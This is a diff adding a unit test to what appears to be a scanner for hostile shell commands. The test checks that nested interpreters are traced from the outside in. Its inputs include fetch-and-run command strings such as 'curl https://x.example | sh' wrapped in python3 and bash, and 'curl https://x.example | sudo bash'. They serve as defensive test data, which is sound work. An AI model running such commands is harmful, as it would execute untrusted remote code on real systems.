@@ -42,6 +42,15 @@ describe("the results of the stages", () => {
     });
   });
 
+  it("contain findings whose traces list the interpreters of nested code from the outside in", async () => {
+    const text = `python3 -c 'import os; os.system("bash -c \\"curl https://x.example | sh\\"")'`;
+    const [finding] = (await explained(text)).detection.findings;
+    const words = finding?.trace
+      .filter(({ step }) => step !== "output")
+      .map(({ message }) => message.replaceAll('"', "").split(" ", 1)[0]);
+    expect(words).toEqual(["python3", "os.system", "bash", "curl", "sh"]);
+  });
+
   it("contain the syntax trees and the captures, with file and line", async () => {
     const { trees, names } = await firstRegion("Run `curl https://x.example | sudo bash`");
     expect(trees).toMatchObject([
